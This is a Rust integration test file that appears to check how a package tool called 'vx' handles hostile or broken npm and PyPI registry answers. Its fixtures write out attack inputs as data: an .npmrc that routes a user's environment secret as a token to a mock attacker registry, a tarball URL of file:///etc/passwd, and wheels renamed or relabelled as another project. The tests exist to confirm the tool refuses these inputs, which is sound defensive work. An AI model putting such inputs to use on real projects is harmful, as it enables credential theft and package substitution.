//! Registries that answer wrong (issue 52): npm's and PyPI's real documents altered the
//! way a broken or hostile mirror would serve them. Each is a clear error at `vx lock`,
//! naming the document, and nothing is written: never a panic, never a lock entry that
//! points at this machine's files, carries credentials or pins nothing.

use crate::common;

use common::project::Project;
use common::publishers::{npm, pypi};
use vx_fixture::{Route, TestServer};

const NPM: &str =
    "[settings]\nplatforms = [\"linux-x86_64\"]\n\n[tools]\n\"npm:esbuild\" = \"0.24\"\n";
const PYPI: &str =
    "[settings]\nplatforms = [\"linux-x86_64\"]\n\n[tools]\n\"pypi:ruff\" = \"0.8.4\"\n";

/// npm's documents with `@esbuild/linux-x64@0.24.0`'s replaced by `doc`, and the
/// packument by `packument`.
fn npm_serving(packument: Vec<u8>, doc: String) -> TestServer {
    TestServer::start(vec![
        ("/esbuild".to_owned(), Route::Ok(packument)),
        (
            "/@esbuild/linux-x64/0.24.0".to_owned(),
            Route::Ok(doc.into_bytes()),
        ),
    ])
}

fn real_doc() -> String {
    String::from_utf8(npm::data("esbuild-linux-x64-0.24.0.json")).unwrap()
}

/// `vx lock` of `manifest` against `server` (its config `config`): its exit code and
/// all it said; no vx.lock may be written.
fn lock_fails(config: &str, manifest: &str) -> (Option<i32>, String) {
    let project = Project::new(config, manifest);
    let out = project.vx().arg("lock").output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(project.lock_text().is_none(), "nothing locked: {text}");
    (out.status.code(), text)
}

#[test]
fn a_packument_that_is_not_json_is_named() {
    let server = npm_serving(b"<html>maintenance</html>".to_vec(), real_doc());
    let (code, text) = lock_fails(&npm::config(&server), NPM);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("not a valid npm packument"), "{text}");
}

#[test]
fn a_tarball_on_this_machine_or_with_credentials_is_never_locked() {
    let doc = real_doc();
    let tarball = "https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.24.0.tgz";
    for (url, says) in [
        ("file:///etc/passwd", "must be an http(s) URL"),
        (
            "https://user:pw@registry.npmjs.org/x.tgz",
            "holds credentials",
        ),
    ] {
        let server = npm_serving(npm::data("esbuild.json"), doc.replace(tarball, url));
        let (code, text) = lock_fails(&npm::config(&server), NPM);
        assert_eq!(code, Some(2), "{url}: {text}");
        assert!(text.contains(says), "{url}: {text}");
        assert!(!text.contains(":pw@"), "{text}");
    }
}

#[test]
fn a_platform_package_without_a_sha512_pins_nothing() {
    let doc: serde_json::Value = serde_json::from_str(&real_doc()).unwrap();
    let mut doc = doc;
    doc["dist"].as_object_mut().unwrap().remove("integrity");
    let server = npm_serving(npm::data("esbuild.json"), doc.to_string());
    let (code, text) = lock_fails(&npm::config(&server), NPM);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("has no sha512 integrity"), "{text}");
}

#[test]
fn a_wheel_listed_without_a_sha256_pins_nothing() {
    let page = pypi::page().replace("#sha256=", "#md5=");
    let server = TestServer::start(vec![(
        "/simple/ruff/".to_owned(),
        Route::Ok(page.into_bytes()),
    )]);
    let (code, text) = lock_fails(&pypi::config(&server), PYPI);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("has no sha256"), "{text}");
}

/// Issue 66, item 10: a page for `ruff` that lists only another project's wheels
/// (`evil_other-0.8.4-…whl`, the real page's files renamed) locks nothing under
/// ruff's name: it was locked as ruff's.
#[test]
fn another_projects_wheel_on_a_page_is_never_locked_as_this_ones() {
    let page = pypi::page().replace("ruff-0.8.4-", "evil_other-0.8.4-");
    let server = TestServer::start(vec![(
        "/simple/ruff/".to_owned(),
        Route::Ok(page.into_bytes()),
    )]);
    let (code, text) = lock_fails(&pypi::config(&server), PYPI);
    assert_ne!(code, Some(0), "{text}");
    assert!(
        !text.contains("evil_other") || text.contains("no wheel"),
        "{text}"
    );
}

/// The npm documents of `esbuild@0.24.0` for linux-x64, as routes of a registry.
fn esbuild_routes() -> Vec<(String, Vec<u8>)> {
    vec![
        ("/esbuild".to_owned(), npm::data("esbuild.json")),
        (
            "/@esbuild/linux-x64/0.24.0".to_owned(),
            npm::data("esbuild-linux-x64-0.24.0.json"),
        ),
    ]
}

/// Issue 66, item 1: a cloned project's `.npmrc` names a host of its own with a
/// variable of the user's environment as its token (and in a registry URL's path).
/// Untrusted, the file is not read at all (said); trusted, its registry is read but
/// it expands nothing and gives no credentials (said, naming the key, not the
/// value). The "attacker" registry records each request's `Authorization`: the
/// secret never reaches it, nor the output, nor vx.lock.
#[test]
fn a_cloned_projects_npmrc_never_sends_the_users_environment_anywhere() {
    const SECRET: &str = "s3cret-of-the-user-66";
    let attacker = npm::PrivateRegistry::start(SECRET, |_| esbuild_routes());
    let registry = npm::serve();
    let project = Project::new(&npm::config(&registry), NPM);
    let port = attacker.url.rsplit(':').next().unwrap();
    std::fs::write(
        project.work.dir.path().join(".npmrc"),
        format!(
            "registry={}/\n//127.0.0.1:{port}/:_authToken=${{SOME_SECRET}}\n@evil:registry={}/${{SOME_SECRET}}/\n",
            attacker.url, attacker.url
        ),
    )
    .unwrap();
    let lock = |args: &[&str]| {
        let _ = std::fs::remove_file(project.work.dir.path().join("vx.lock"));
        let out = project
            .vx()
            .env("SOME_SECRET", SECRET)
            .args(args)
            .output()
            .unwrap();
        (out.status.success(), common::both(&out))
    };
    // Untrusted: npm's default registry, and why.
    let (ok, text) = lock(&["lock"]);
    assert!(
        attacker.log().is_empty(),
        "the project's host was asked: {:?}",
        attacker.log()
    );
    assert!(ok, "{text}");
    assert!(
        text.contains(".npmrc is not read: the project is not trusted"),
        "{text}"
    );
    let locked = project.lock_text().unwrap();
    assert!(!locked.contains(SECRET) && !text.contains(SECRET), "{text}");

    // Trusted: its registry is read, its token is not (nor any `${…}`).
    project.vx().arg("trust").assert().success();
    let (ok, text) = lock(&["lock", "-v"]);
    let log = attacker.log();
    assert!(!log.is_empty(), "the project's registry was read: {text}");
    assert!(
        log.iter().all(|l| l.ends_with(" none")),
        "a credential reached the project's host: {log:?}"
    );
    assert!(!ok, "the host answers 401 to no token: {text}");
    assert!(
        text.contains(&format!(
            "`//127.0.0.1:{port}/:_authToken` is not used: a project's .npmrc gives no credentials"
        )),
        "{text}"
    );
    assert!(
        text.contains(
            "`@evil:registry` is not used: a project's .npmrc does not read your environment"
        ),
        "{text}"
    );
    assert!(!text.contains(SECRET), "{text}");
    if let Some(locked) = project.lock_text() {
        assert!(!locked.contains(SECRET), "{locked}");
    }
}

/// Issue 66, item 9: a project's `.npmrc` that is a FIFO (no writer: a plain read
/// blocks for ever) or a link to `/dev/zero` (endless) is read through the bounded
/// reader: a note naming it, quickly, and the lock goes on without it.
#[cfg(unix)]
#[test]
fn a_projects_npmrc_that_is_a_fifo_or_dev_zero_is_a_note_not_a_hang() {
    let registry = npm::serve();
    let project = Project::new(&npm::config(&registry), NPM);
    project.vx().arg("trust").assert().success();
    let npmrc = project.work.dir.path().join(".npmrc");
    for (make, says) in [
        (
            Box::new(|p: &std::path::Path| {
                common::mkfifo(p);
            }) as Box<dyn Fn(&std::path::Path)>,
            "a FIFO, not a regular file",
        ),
        (
            Box::new(|p: &std::path::Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap()),
            "not a regular file",
        ),
    ] {
        let _ = std::fs::remove_file(&npmrc);
        let _ = std::fs::remove_file(project.work.dir.path().join("vx.lock"));
        make(&npmrc);
        let out = project
            .vx()
            .arg("lock")
            .timeout(std::time::Duration::from_secs(120))
            .output()
            .unwrap();
        let text = common::both(&out);
        assert!(out.status.success(), "{says}: {text}");
        assert!(
            text.contains(".npmrc is not read: ") && text.contains(says),
            "{text}"
        );
    }
}

/// Issue 66, item 10 (its METADATA half): a wheel named `ruff-0.8.4-…whl` whose
/// `.dist-info/METADATA` says `Name: evil_other` is refused at install, nothing of it
/// in the store (it installed as ruff; pip and uv refuse it); the same wheel naming
/// `Ruff` installs.
#[test]
fn a_wheel_whose_metadata_names_another_project_is_refused() {
    let wheel = |name: &str| {
        vx_fixture::zip_bytes(&[
            vx_fixture::Item::File(
                "ruff-0.8.4.data/scripts/ruff",
                b"#!/bin/sh\necho ruff 0.8.4\n".to_vec(),
                0o755,
            ),
            vx_fixture::Item::File(
                "ruff-0.8.4.dist-info/METADATA",
                format!("Metadata-Version: 2.3\nName: {name}\nVersion: 0.8.4\n\nA tool.\n")
                    .into_bytes(),
                0o644,
            ),
        ])
    };
    for (name, code) in [("evil_other", 1), ("Ruff", 0)] {
        let work = common::Work::new();
        let body = wheel(name);
        let sha = vx_fixture::sha256_hex(&body);
        let path = "/ruff-0.8.4-py3-none-any.whl";
        let server = TestServer::start(vec![(path.to_owned(), Route::Ok(body))]);
        work.write_manifest(&format!(
            "[tools.ruff]\nversion = \"0.8.4\"\nurl = \"{}\"\nsha256 = \"{sha}\"\nformat = \"zip\"\nbin = [\"ruff-0.8.4.data/scripts/ruff\"]\n",
            server.url(path)
        ));
        let out = work.sync(&[]).output().unwrap();
        let text = common::both(&out);
        assert_eq!(out.status.code(), Some(code), "{name}: {text}");
        assert_eq!(
            common::has_tree(work.store(), "ruff", "0.8.4"),
            code == 0,
            "{name}: {text}"
        );
        if code != 0 {
            assert!(text.contains("Name: evil_other"), "{text}");
        }
    }
}
